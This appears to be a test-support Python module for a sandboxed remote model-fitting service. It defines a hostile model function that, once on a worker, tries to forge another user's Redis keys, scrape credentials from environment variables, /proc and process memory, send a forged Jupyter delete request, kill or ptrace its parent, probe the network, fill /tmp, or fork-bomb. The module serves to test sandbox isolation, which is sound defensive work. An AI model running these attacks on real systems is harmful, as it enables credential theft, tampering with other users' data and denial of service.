"""Problems whose model, the first time it runs on a worker, attacks from inside its fit
process and prints what it found (it travels by value, as a notebook's code does): another
owner's keys by every route to Redis and to the Jupyter server, the worker's processes, the
network, the temporary directory, the process table. The test reads the report back with
`talking_models.found`; the attacks that cannot end by themselves (filling /tmp, forking
without end) report first, then raise or are stopped.

Every attack that would harm the test machine if the sandbox failed (signals, a fork bomb)
refuses to run as root or without a process limit, and none runs in the test's own process.
"""

from __future__ import annotations

import os

from .problems import GAUSSIAN_SOURCE, gaussian_fit_of, user_module

HOSTILE_SOURCE = (
    GAUSSIAN_SOURCE
    + r"""
import ctypes, errno, gc, json, os, re, resource, signal, socket, struct, sys, tempfile

def outcome(action):
    # 'ok: <what it returned>', or the error raised: an OSError by its errno's name
    try:
        value = action()
    except OSError as e:
        return "%s:%s" % (type(e).__name__, errno.errorcode.get(e.errno, e.errno))
    except Exception as e:
        return "%s: %s" % (type(e).__name__, str(e)[:160])
    return "ok: " + repr(value)[:160]

def report(found):
    print("FOUND " + json.dumps(found), flush=True)

def unprivileged():
    # the guard of every attack that would harm the machine if the sandbox had not applied
    if os.getuid() == 0:
        raise RuntimeError("refusing to attack as root: the sandbox did not apply")

# -- another owner's keys -----------------------------------------------------------------

def command(*words):
    out = b"*%d\r\n" % len(words)
    for word in words:
        word = word.encode() if isinstance(word, str) else word
        out += b"$%d\r\n%s\r\n" % (len(word), word)
    return out

def talk(family, address, data):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(address)
        s.sendall(data)
        return s.recv(200)

def victim_commands():
    key = VICTIM_KEYS[0]
    return command("GET", key) + command("SET", key, "forged") + command("DEL", *VICTIM_KEYS)

# scheme://, spelled so that this code holds no such text itself
SCHEMES = ("redis", "rediss", "unix", "redis+socket")
URL = re.compile(("(?:" + "|".join(map(re.escape, SCHEMES)) + "):" + "//[!-~]{1,300}").encode())
SEPARATOR = ":" + "//"

def urls_in(data):
    # found by bytes.find (fast on the whole heap), then matched around each hit
    urls, at = set(), data.find(SEPARATOR.encode())
    while at != -1:
        match = URL.search(data, max(0, at - 12), at + 303)
        if match and match.start() <= at:
            urls.add(match.group().decode(errors="replace").rstrip("'\",)]}`."))
        at = data.find(SEPARATOR.encode(), at + 1)
    return urls

def read_file(path):
    with open(path, "rb") as f:
        return f.read()

def own_memory():
    # every writable mapping of this process (its heap: a copy of its pool process's),
    # read with process_vm_readv, which fails on a vanished page instead of crashing
    class IoVec(ctypes.Structure):  # made here: a ctypes class does not pickle
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    libc = ctypes.CDLL(None, use_errno=True)
    chunk = 1 << 22
    buffer = ctypes.create_string_buffer(chunk)
    for line in read_file("/proc/self/maps").splitlines():
        fields = line.split()
        if not fields[1].startswith(b"rw") or (len(fields) > 5 and fields[5].startswith(b"[v")):
            continue
        start, end = (int(x, 16) for x in fields[0].split(b"-"))
        for at in range(start, end, chunk):
            size = min(chunk, end - at)
            local, remote = IoVec(ctypes.addressof(buffer), size), IoVec(at, size)
            got = libc.process_vm_readv(
                os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if got > 0:
                yield buffer.raw[:got]

def redis_objects():
    gc.unfreeze()  # the warm heap the worker froze before its pool forked
    names = ("redis.client.Redis", "redis.connection.ConnectionPool",
             "kombu.connection.Connection")
    for obj in gc.get_objects():
        kind = type(obj)
        if kind.__name__ in ("Redis", "ConnectionPool", "Connection"):
            name = str(getattr(kind, "__module__", "")) + "." + kind.__qualname__
            if name in names:
                yield name, obj

def use_object(name, obj):
    import redis
    if name == "redis.client.Redis":
        client = obj
    elif name == "redis.connection.ConnectionPool":
        client = redis.Redis(connection_pool=obj)
    else:  # kombu's: its channel's client is a redis-py client
        connection = obj.clone(connect_timeout=2)
        connection.ensure_connection(max_retries=1)
        client = connection.default_channel.client
    return client.set(VICTIM_KEYS[0], "forged")

def use_url(url):
    import redis
    client = redis.Redis.from_url(url, socket_connect_timeout=1, socket_timeout=1)
    return client.set(VICTIM_KEYS[0], "forged")

def messages_pipe():
    # the pipe this process sends its frames up: the one written-to pipe besides 1 and 2
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink("/proc/self/fd/" + fd)
            flags = int(read_file("/proc/self/fdinfo/" + fd).split(b"flags:")[1].split()[0], 8)
        except (OSError, IndexError):
            continue
        if target.startswith("pipe:") and fd not in ("1", "2") and flags & 3 == os.O_WRONLY:
            return int(fd)

def forge_frame():
    # a progress frame that names the other owner's job: the pool process stores a fit's
    # frames into its own job, whatever they say
    body = json.dumps({"owner": VICTIM_OWNER, "job_id": VICTIM_JOB, "key": VICTIM_KEYS[0],
                       "step": 1, "rows": []}).encode()
    return os.write(messages_pipe(), struct.pack(">cI", b"P", len(body)) + body)

def owner_keys():
    found = {"uid": os.getuid()}
    tcp = ("127.0.0.1", REDIS_PORT)
    found["tcp"] = outcome(lambda: talk(socket.AF_INET, tcp, victim_commands()))
    found["unix"] = outcome(lambda: talk(socket.AF_UNIX, REDIS_SOCKET, victim_commands()))
    found["objects"] = {n: outcome(lambda: use_object(n, o)) for n, o in redis_objects()}
    places = {"environ": lambda: ["\0".join(os.environ.values()).encode()],
              "proc_environ": lambda: [read_file("/proc/self/environ")],
              "argv": lambda: [read_file("/proc/self/cmdline")],
              "parent_argv": lambda: [read_file("/proc/%d/cmdline" % os.getppid())],
              "parent_environ": lambda: [read_file("/proc/%d/environ" % os.getppid())],
              "init_argv": lambda: [read_file("/proc/1/cmdline")],
              "memory": own_memory}
    urls, where = set(), {}
    for place, read in places.items():
        seen = set()
        try:
            for data in read():
                seen |= urls_in(data)
        except OSError as e:
            where[place] = "%s:%s" % (type(e).__name__, errno.errorcode.get(e.errno, e.errno))
            continue
        where[place] = len(seen)
        urls |= seen
    found["url_places"] = where
    found["real_url_seen"] = REAL_URL in urls
    tried = sorted(urls)[:200]
    found["urls"] = {url: outcome(lambda: use_url(url)) for url in tried}
    request = ("DELETE /bumps-remote/api/jobs/%s HTTP/1.0\r\nAuthorization: token user-%s"
               "\r\n\r\n" % (VICTIM_JOB, VICTIM_OWNER)).encode()
    found["jupyter"] = outcome(lambda: talk(socket.AF_INET, ("127.0.0.1", JUPYTER_PORT), request))
    found["forged_frame"] = outcome(forge_frame)
    report(found)

# -- the worker's processes -----------------------------------------------------------------

def signal_worker():
    unprivileged()
    me, parent = os.getpid(), os.getppid()
    found = {"uid": os.getuid(), "parent": parent}
    targets = sorted({parent, *WORKER_PIDS} - {me})
    found["kill"] = {str(p): outcome(lambda: os.kill(p, signal.SIGKILL)) for p in targets}
    found["killpg"] = outcome(lambda: os.killpg(os.getpgid(parent), signal.SIGKILL))
    found["pidfd"] = outcome(
        lambda: signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGKILL))
    libc = ctypes.CDLL(None, use_errno=True)
    def attach():
        if libc.ptrace(16, parent, None, None) == -1:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), "ptrace")
    found["ptrace"] = outcome(attach)
    found["parent_memory"] = outcome(lambda: read_file("/proc/%d/mem" % parent))
    found["visible"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    # signal 0 asks only whether the process exists and may be signalled
    pid_max = int(read_file("/proc/sys/kernel/pid_max"))
    own = {int(t) for t in os.listdir("/proc/self/task")}  # kill() takes a thread's id too
    may = []
    for pid in range(1, pid_max + 1):
        if pid not in own:
            try:
                os.kill(pid, 0)
                may.append(pid)
            except OSError:
                pass
    found["may_signal"] = may
    report(found)

# -- the network ----------------------------------------------------------------------------

def network():
    found = {"interfaces": sorted(name for _, name in socket.if_nameindex())}
    found["tcp"] = {name: outcome(lambda: talk(socket.AF_INET, (host, port), b"hello"))
                    for name, host, port in TCP_TARGETS}
    def datagram():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            return s.sendto(b"hello", tuple(UDP_TARGET))
    found["udp"] = outcome(datagram)
    found["abstract_unix"] = outcome(lambda: talk(socket.AF_UNIX, "\0" + ABSTRACT_NAME, b"hello"))
    found["dns"] = outcome(lambda: socket.getaddrinfo("pypi.org", 443)[0][4])
    report(found)

# -- the temporary directory ----------------------------------------------------------------

def fill_tmp():
    unprivileged()
    where = tempfile.gettempdir()
    space = os.statvfs(where)
    report({"tmp": where, "home": os.environ.get("HOME"),
            "size_mb": space.f_blocks * space.f_frsize // 2**20})
    block = b"\1" * (4 << 20)
    number = 0
    while True:  # 64 MB files, each below the file size limit: only the space runs out
        with open(os.path.join(where, "fill-%d" % number), "wb") as f:
            for _ in range(16):
                f.write(block)
        number += 1

# -- the process table ----------------------------------------------------------------------

def fork_bomb():
    # Every process forks without end; with LEAVE_SESSION each child first leaves the fit's
    # process group and session (setsid), out of reach of a kill of the group. Only the fit
    # process gives up when fork fails (so that the job fails); its children retry for ever.
    unprivileged()
    limit = resource.getrlimit(resource.RLIMIT_NPROC)[0]
    if limit == resource.RLIM_INFINITY or limit > 1000:
        raise RuntimeError("refusing to fork-bomb without a process limit (%s)" % limit)
    report({"uid": os.getuid(), "nproc": limit})
    fit = os.getpid()
    while True:
        try:
            child = os.fork()
        except OSError:
            if os.getpid() == fit:
                raise
            time.sleep(0.05)
            continue
        if child == 0 and LEAVE_SESSION:
            try:
                os.setsid()
            except OSError:
                pass

def hostile_gaussian(x, A, mu, sigma):
    if os.getpid() != SUBMITTER:  # on the worker, once, in the fit itself: after the
        CALLS[0] += 1             # evaluation at the start point that checks the payload
        if CALLS[0] == 2:
            ATTACKS[ATTACK]()  # named here: cloudpickle ships only the globals a function names
    return gaussian(x, A, mu, sigma)

ATTACKS = {"owner_keys": owner_keys, "signal_worker": signal_worker, "network": network,
           "fill_tmp": fill_tmp, "fork_bomb": fork_bomb}

ATTACK = ""
SUBMITTER = 0
VICTIM_OWNER = VICTIM_JOB = REDIS_SOCKET = REAL_URL = ""
VICTIM_KEYS = []
REDIS_PORT = JUPYTER_PORT = 0
WORKER_PIDS = []
TCP_TARGETS = []
UDP_TARGET = []
ABSTRACT_NAME = ""
LEAVE_SESSION = False
"""
)


def hostile_model_problem(attack: str, **module_globals):
    """A gaussian fit whose model runs `attack` (owner_keys, signal_worker, network,
    fill_tmp, fork_bomb) once on the worker, in its fit process (at its second evaluation
    there: the first checks the payload), with the module globals it reads."""
    module = user_module(HOSTILE_SOURCE, name="hostile_notebook_code")
    vars(module).update(ATTACK=attack, SUBMITTER=os.getpid(), **module_globals)
    return gaussian_fit_of(module.hostile_gaussian)
